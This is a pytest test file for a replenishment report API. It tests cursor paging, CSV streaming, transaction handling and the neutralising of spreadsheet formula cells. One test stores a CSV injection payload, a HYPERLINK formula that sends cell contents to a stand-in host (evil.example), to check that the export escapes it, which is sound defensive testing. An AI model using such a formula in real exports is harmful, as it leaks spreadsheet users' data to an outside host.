"""``GET /v1/replenishment``: JSON paged by a keyset cursor, CSV streamed, formula cells
neutralised; the order is PostgreSQL's and agrees with the rules to the digit."""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import Awaitable, Callable
from decimal import Decimal
from typing import Any

import pytest
import sqlalchemy as sa
from starlette.types import Message

from app import streaming
from app.domain.inventory.report_schemas import REPLENISHMENT_CSV_FIELDS, ReplenishmentRow
from app.domain.inventory.reports import replenishment_position
from app.domain.sku.schemas import SkuStatus
from app.pagination import encode_cursor
from app.routers.replenishment import csv_cells, neutralise_cell
from tests.helpers import ADMIN, Api, assert_problem, unique
from tests.routers.test_low_stock import bulk_skus, set_stock

CSV = {**ADMIN, "Accept": "text/csv"}


async def walk(api: Api, store_id: str, limit: int) -> tuple[list[dict[str, Any]], int]:
    """Every row of the JSON table, page by page; and how many pages it took."""
    items: list[dict[str, Any]] = []
    cursor = None
    pages = 0
    while True:
        params: dict[str, Any] = {"store_id": store_id, "limit": limit}
        if cursor:
            params["cursor"] = cursor
        r = await api.client.get("/v1/replenishment", params=params, headers=ADMIN)
        assert r.status_code == 200, r.text
        body = r.json()
        assert len(body["items"]) <= limit
        items += body["items"]
        pages += 1
        cursor = body["next_cursor"]
        if cursor is None:
            return items, pages


async def csv_rows(api: Api, store_id: str) -> list[list[str]]:
    r = await api.client.get("/v1/replenishment", params={"store_id": store_id}, headers=CSV)
    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0] == list(REPLENISHMENT_CSV_FIELDS)
    return rows[1:]


async def mixed_store(api: Api, app: Any) -> tuple[str, dict[str, str]]:
    """SKUs in every class, with equal covers, exact halves and code-point-sensitive codes."""
    store = await api.store()
    sid = store["id"]
    p = unique("k")
    specs: list[tuple[str, str, dict[str, Any]]] = [
        # name, code, stock
        ("half", f"{p}-b", {"on_hand": 6, "shipped": 32}),  # 5.25 exactly: shown 5.3
        ("cover_53", f"{p}-a", {"on_hand": 16, "shipped": 84}),  # 5.333…: 5.3
        ("cover_52", f"{p}-c", {"on_hand": 13, "shipped": 70}),  # 5.2
        ("hot", f"{p}-h", {"on_hand": 100, "reserved": 40, "shipped": 280}),
        ("hot_short", f"{p}-i", {"on_hand": 5, "shipped": 140, "backordered": 4}),
        ("slow", f"{p}-s", {"on_hand": 9, "shipped": 2}),
        ("idle_upper", f"{p}-B", {"on_hand": 1}),  # "B" < "_" < "a" < "中" by code point
        ("idle_under", f"{p}-_", {"on_hand": 1}),
        ("idle_lower", f"{p}-a1", {"on_hand": 0}),
        ("idle_cjk", f"{p}-中", {"on_hand": 2}),
    ]
    names: dict[str, str] = {}
    for name, code, stock in specs:
        sku = await api.sku(sid, sku_code=code)
        await set_stock(app, sku["id"], **stock)
        names[sku["id"]] = name
    return sid, names


def as_row(item: dict[str, Any]) -> ReplenishmentRow:
    return ReplenishmentRow.model_validate(
        {**item, "avg_daily_sales": Decimal(item["avg_daily_sales"])}
    )


async def test_pages_follow_the_documented_order(api: Api, app: Any) -> None:
    sid, names = await mixed_store(api, app)
    items, pages = await walk(api, sid, limit=3)
    assert pages == 4
    assert [names[i["sku_id"]] for i in items] == [
        "hot_short",  # 5 available at 5/day: 1.0 day of cover
        "hot",  # 60 at 10/day: 6.0
        "cover_52",
        "cover_53",  # 5.3, code …-a
        "half",  # 5.3 (5.25 rounded half up), code …-b
        "slow",
        "idle_upper",
        "idle_under",
        "idle_lower",
        "idle_cjk",
    ]
    shown = {names[i["sku_id"]]: i["days_of_cover"] for i in items}
    assert shown["half"] == "5.3"
    assert (shown["cover_52"], shown["cover_53"]) == ("5.2", "5.3")
    keys = [replenishment_position(as_row(i)) for i in items]
    assert keys == sorted(keys)
    # The CSV is the same table in the same order, whole.
    assert [row[0] for row in await csv_rows(api, sid)] == [i["sku_id"] for i in items]
    whole, pages = await walk(api, sid, limit=500)
    assert pages == 1
    assert whole == items


async def test_invalid_cursors_are_422(api: Api) -> None:
    store = await api.store()
    for cursor in (
        encode_cursor("low-stock", 1),
        encode_cursor("replenishment", 0, 0, 0, 5, 1),  # a number where the code goes
        encode_cursor("replenishment", 0, 0, 0, "A\x00", 1),
        encode_cursor("replenishment", 0, 0, 0, "x" * 300, 1),
        encode_cursor("replenishment", "0", 0, 0, "A", 1),
        "not a cursor",
    ):
        r = await api.client.get(
            "/v1/replenishment", params={"store_id": store["id"], "cursor": cursor}, headers=ADMIN
        )
        assert_problem(r, 422, "invalid_cursor")


async def asgi_get(
    app: Any,
    path: str,
    query: str,
    headers: dict[str, str],
    on_body: Callable[[], Awaitable[None]] | None = None,
) -> list[Message]:
    """The messages an ASGI GET sends (httpx's ASGI transport joins body chunks into one);
    ``on_body`` runs as each body chunk is sent (a slow or vanishing client)."""
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "root_path": "",
        "query_string": query.encode(),
        "headers": [(k.lower().encode(), v.encode()) for k, v in headers.items()],
        "client": ("127.0.0.1", 1),
        "server": ("storeops.test", 80),
    }
    sent: list[Message] = []
    requested = False
    never = asyncio.Event()

    async def receive() -> Message:
        nonlocal requested
        if requested:  # the client stays connected: wait until the response is done
            await never.wait()
        requested = True
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: Message) -> None:
        sent.append(message)
        if on_body is not None and message["type"] == "http.response.body":
            await on_body()

    await app(scope, receive, send)
    return sent


async def test_csv_is_streamed_in_chunks(api: Api, app: Any) -> None:
    store = await api.store()
    await bulk_skus(app, store["id"], 1_250, on_hand=3)
    sent = await asgi_get(app, "/v1/replenishment", f"store_id={store['id']}", CSV)
    start = sent[0]
    assert start["status"] == 200
    assert b"content-length" not in dict(start["headers"])
    parts = [m["body"] for m in sent[1:] if m.get("body")]
    # 200 rows a chunk: the rows went out while later ones were still being read.
    assert len(parts) == 1_250 // 200 + 1
    rows = list(csv.reader(io.StringIO(b"".join(parts).decode("utf-8-sig"))))
    assert len(rows) == 1 + 1_250
    codes = [row[rows[0].index("sku_code")] for row in rows[1:]]
    assert codes == sorted(codes)


async def open_transactions(app: Any) -> int:
    """Other sessions of this database inside a transaction (holding a snapshot)."""
    async with app.state.engine.connect() as conn:
        return int(
            (
                await conn.execute(
                    sa.text(
                        "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() "
                        "AND pid <> pg_backend_pid() AND (xact_start IS NOT NULL "
                        "OR backend_xmin IS NOT NULL)"
                    )
                )
            ).scalar_one()
        )


async def test_no_transaction_stays_open_while_the_client_reads(api: Api, app: Any) -> None:
    store = await api.store()
    await bulk_skus(app, store["id"], 1_250, on_hand=3)
    seen: list[int] = []

    async def slow_client() -> None:
        seen.append(await open_transactions(app))

    sent = await asgi_get(
        app, "/v1/replenishment", f"store_id={store['id']}", CSV, on_body=slow_client
    )
    rows = b"".join(m.get("body", b"") for m in sent[1:]).decode("utf-8-sig").splitlines()
    assert len(rows) == 1 + 1_250
    # While each chunk went out, no transaction of the stream was open (the event feed's
    # horizon never waits for a download).
    assert len(seen) >= 6
    assert seen == [0] * len(seen)


async def test_a_client_gone_midway_closes_the_cursor(
    api: Api, app: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    store = await api.store()
    await bulk_skus(app, store["id"], 1_250, on_hand=3)
    closed: list[str] = []
    real_close = streaming._close

    async def close(conn: Any, name: str) -> None:
        await real_close(conn, name)
        closed.append(name)

    monkeypatch.setattr(streaming, "_close", close)

    async def gone() -> None:
        raise OSError("client went away")

    with pytest.raises(OSError, match="went away"):
        await asgi_get(app, "/v1/replenishment", f"store_id={store['id']}", CSV, on_body=gone)
    assert len(closed) == 1
    assert await open_transactions(app) == 0
    # The pool's connections are fine afterwards.
    rows = await csv_rows(api, store["id"])
    assert len(rows) == 1_250


async def test_formula_cells_are_neutralised(api: Api, app: Any) -> None:
    store = await api.store()
    p = unique("f")
    titles = {
        f"{p}-1": '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
        f"{p}-2": "+86 龙井",
        f"{p}-3": "-5% 特价",
        f"{p}-4": "@SUM(A1:A9)",
        f"{p}-5": "西湖龙井 = 500g",  # not at the start: left alone
    }
    for code, title in titles.items():
        sku = await api.sku(store["id"], sku_code=code, title=title)
        await set_stock(app, sku["id"], on_hand=0)
    formula_code = await api.sku(store["id"], sku_code=f"={p}", title="ok")
    rows = await csv_rows(api, store["id"])
    header = list(REPLENISHMENT_CSV_FIELDS)
    by_code = {row[header.index("sku_code")]: row for row in rows}
    for code, title in titles.items():
        expected = title if code.endswith("-5") else "'" + title
        assert by_code[code][header.index("title")] == expected
        assert by_code[code][header.index("available")] == "0"
    assert f"'={p}" in by_code
    assert by_code[f"'={p}"][header.index("sku_id")] == formula_code["id"]
    # JSON carries the text as it is.
    items, _ = await walk(api, store["id"], limit=50)
    assert {i["title"] for i in items} >= set(titles.values())


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        ("", ""),
        ("龙井", "龙井"),
    ],
)
def test_neutralise_cell(value: str, shown: str) -> None:
    assert neutralise_cell(value) == shown


def test_numbers_keep_their_sign() -> None:
    row = ReplenishmentRow(
        sku_id=1,
        store_id=2,
        sku_code="-neg",
        title="=x",
        status=SkuStatus.ACTIVE,
        velocity_class="slow",  # type: ignore[arg-type]
        avg_daily_sales=Decimal("0.0357"),
        on_hand=0,
        reserved=0,
        available=-5,
        backordered=0,
        days_of_cover=Decimal("-140.0"),
        lead_time_days=7,
        safety_days=1,
        reorder_point=1,
        suggested_qty=6,
    )
    cells = dict(zip(REPLENISHMENT_CSV_FIELDS, csv_cells(row), strict=True))
    assert cells["available"] == "-5"
    assert cells["days_of_cover"] == "-140.0"
    assert (cells["sku_code"], cells["title"]) == ("'-neg", "'=x")
